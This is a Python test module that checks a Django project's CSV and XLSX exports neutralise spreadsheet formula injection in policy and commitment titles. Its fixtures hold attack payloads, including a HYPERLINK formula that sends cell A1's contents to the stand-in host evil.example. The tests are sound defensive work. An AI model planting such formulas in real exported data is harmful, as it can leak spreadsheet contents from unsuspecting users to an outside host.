"""Formula injection: a title beginning with =, +, - or @ reaches every CSV and XLSX as text with a
leading quote (OWASP's rule), and XLSX cells are typed as strings, never as formulas."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from ccnt.actors.models import Commitment
from ccnt.tabular import neutralise
from ccnt.tracker.export_labels import header
from ccnt.tracker.models import Policy

from ._api_helpers import api_client

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1", "-1", "@SUM(A1:A9)"]


@pytest.fixture
def poisoned() -> dict[int, str]:
    """Four public policies whose titles are formula payloads: {policy_id: payload}."""
    ids = list(Policy.objects.public().order_by("id").values_list("id", flat=True)[:len(PAYLOADS)])
    for pk, title in zip(ids, PAYLOADS, strict=True):
        Policy.objects.filter(pk=pk).update(title=title)
    return dict(zip(ids, PAYLOADS, strict=True))


def csv_titles(text: str, id_column: str = "policy_id") -> dict[int, str]:
    rows = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
    return {int(row[id_column]): row["title"] for row in rows}


def assert_neutralised(titles: dict, poisoned: dict[int, str]) -> None:
    for pk, payload in poisoned.items():
        assert titles[pk] == "'" + payload, (pk, titles.get(pk))


def xlsx_cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).active
    return list(sheet.iter_rows())


def assert_xlsx_neutralised(data: bytes, poisoned: dict[int, str]) -> None:
    rows = xlsx_cells(data)
    names = [c.value for c in rows[0]]  # the spreadsheet names its columns for readers
    id_at, title_at = names.index(header("policy_id")), names.index(header("title"))
    seen = {}
    for row in rows[1:]:
        assert row[title_at].data_type == "s"
        seen[int(row[id_at].value)] = row[title_at].value
    assert_neutralised(seen, poisoned)
    assert not any(c.data_type == "f" for row in rows for c in row)


def test_it_neutralises_the_rule_cases():
    for value in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]:
        assert neutralise(value) == "'" + value
    assert neutralise("碳达峰=1") == "碳达峰=1"
    assert neutralise(-1) == -1 and neutralise(2.5) == 2.5 and neutralise(None) is None


def test_it_neutralises_the_web_csv_download(client, poisoned):
    response = client.get("/policies/export.csv")
    assert response.status_code == 200
    assert_neutralised(csv_titles(response.content.decode("utf-8")), poisoned)


def test_it_writes_the_web_xlsx_download_as_strings(client, poisoned):
    response = client.get("/policies/export.xlsx")
    assert response.status_code == 200
    assert_xlsx_neutralised(b"".join(response.streaming_content), poisoned)


def test_it_neutralises_the_api_csv(settings, poisoned):
    response = api_client(settings).get("/api/v1/policies/?format=csv&page_size=200&sort=id")
    assert response.status_code == 200
    assert_neutralised(csv_titles(response.content.decode("utf-8")), poisoned)


def test_it_neutralises_ccnt_export_csv(poisoned):
    out = io.StringIO()
    call_command("export", "--format", "csv", stdout=out)
    assert_neutralised(csv_titles(out.getvalue()), poisoned)


def test_it_writes_ccnt_export_xlsx_as_strings(tmp_path, poisoned):
    path = tmp_path / "policies.xlsx"
    call_command("export", "--format", "xlsx", "-o", str(path))
    assert_xlsx_neutralised(path.read_bytes(), poisoned)


def test_it_neutralises_ccnt_dump(tmp_path, poisoned):
    path = tmp_path / "dump.zip"
    call_command("dump", "-o", str(path))
    with zipfile.ZipFile(path) as archive:
        assert_neutralised(csv_titles(archive.read("data/policies.csv").decode("utf-8")), poisoned)


def test_it_neutralises_the_commitments_downloads(client):
    commitment = Commitment.objects.public().order_by("id").first()
    assert commitment is not None, "the demo has published commitments"
    Commitment.objects.filter(pk=commitment.pk).update(title="=HYPERLINK(\"http://evil.example\")")
    text = client.get("/actors/export.csv").content.decode("utf-8")
    assert csv_titles(text, "commitment_id")[commitment.pk] == "'=HYPERLINK(\"http://evil.example\")"
    rows = xlsx_cells(client.get("/actors/export.xlsx").content)
    header = [c.value for c in rows[0]]
    row = next(r for r in rows[1:] if r[header.index("commitment_id")].value == commitment.pk)
    cell = row[header.index("title")]
    assert cell.data_type == "s" and cell.value == "'=HYPERLINK(\"http://evil.example\")"
